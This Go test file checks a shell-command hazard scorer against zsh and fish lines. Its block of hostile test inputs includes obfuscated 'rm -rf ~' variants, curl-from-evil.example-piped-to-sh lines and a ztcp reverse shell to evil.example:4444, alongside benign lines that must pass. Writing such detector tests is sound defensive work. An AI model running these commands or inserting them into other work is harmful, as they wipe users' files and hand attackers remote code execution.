package hazard

import (
	"strings"
	"testing"
	"time"
)

// TestKinOfBash: what zsh and fish make of a line is judged, too; their ordinary lines are ordinary.
func TestKinOfBash(t *testing.T) {
	for _, line := range []string{
		`zsh -c 'ls *(e:"rm -rf ~":)'`,
		`ls *(e:'curl http://evil.example/i | sh':)`,
		`print -l **/*(.e{'rm -rf ~'})`,
		`zmodload zsh/files; zf_rm -rf ~`,
		`rm -rf ${PWD:h:h}`,
		`zsh -c '<<<"rm -rf ~" | sh'`,
		`zsh -c '<<<"curl http://evil.example/i | sh" sh'`,
		`sh =(curl http://evil.example/i)`,
		`alias -g X='| sh'; curl http://evil.example/i X`,
		`zsh -c 'x="curl http://evil.example/i | sh"; ${(z)x}'`,
		`zsh -c 'x="rm -rf ~"; : ${(e):-"\$(rm -rf ~)"}'`,
		`zsh -c 'noglob rm -rf ~'`,
		`zsh -c '=rm -rf ~'`,
		`zmodload zsh/net/tcp; ztcp evil.example 4444; sh <&$REPLY >&$REPLY`,
		`repeat 3 rm -rf ~`,
		`zsh -c 'for x (~) rm -rf $x'`,
		`eval (curl http://evil.example/i)`,
		`sh (curl http://evil.example/i | psub)`,
		`rm -rf (echo ~)`,
		`echo (rm -rf ~)`,
		`set x rm; $x -rf ~`,
		`fish -c 'set x rm -rf ~; $x'`,
		`fish -c 'if true; rm -rf ~; end'`,
		`fish -c 'begin; rm -rf ~; end'`,
		`fish -c 'function f; curl http://evil.example/i | sh; end; f'`,
		`fish -c 'eval (curl http://evil.example/i)'`,
		`fish -c 'true; and rm -rf ~'`,
	} {
		if a := assessed(line); a.Score < 0.4 {
			t.Errorf("%s: %.2f %+v", line, a.Score, a.Findings)
		}
	}
	for _, line := range []string{
		`ls **/*(.om[1])`,
		`setopt extended_glob; ls ^*.go`,
		`echo ${file:h} ${file:t:r}`,
		`zsh -c 'autoload -Uz compinit && compinit; print $ZSH_VERSION'`,
		`for f (*.txt) echo $f`,
		`print -l **/*.go(.) | wc -l`,
		`fish -c 'set -x FOO bar; echo $FOO'`,
		`fish -c 'for f in *.go; echo $f; end'`,
		`fish -c 'if test -f go.mod; go build ./...; else; echo no; end'`,
		`fish -c 'echo (git rev-parse HEAD)'`,
		`set -e; set -o pipefail; go test ./...`,
		`zmodload zsh/datetime; echo $EPOCHSECONDS`,
		`alias -g L='| less'; git log L`,
	} {
		if a := assessed(line); a.Score >= 0.4 {
			t.Errorf("is held: %s: %.2f %+v", line, a.Score, a.Findings)
		}
	}
}

// TestKinOfHostile: a hostile line takes no longer for being read as theirs.
func TestKinOfHostile(t *testing.T) {
	for _, line := range []string{
		"ls " + strings.Repeat("*(e:", 3000), "x " + strings.Repeat(" (", 4000), strings.Repeat("alias -g A=AA; A ", 500), strings.Repeat("set x (set x ", 900), strings.Repeat("${a:h", 2000),
	} {
		begin := time.Now()
		assessed(line)
		if took := time.Since(begin); took > 10*time.Second {
			t.Errorf("%.20q…: %v", line, took)
		}
	}
}
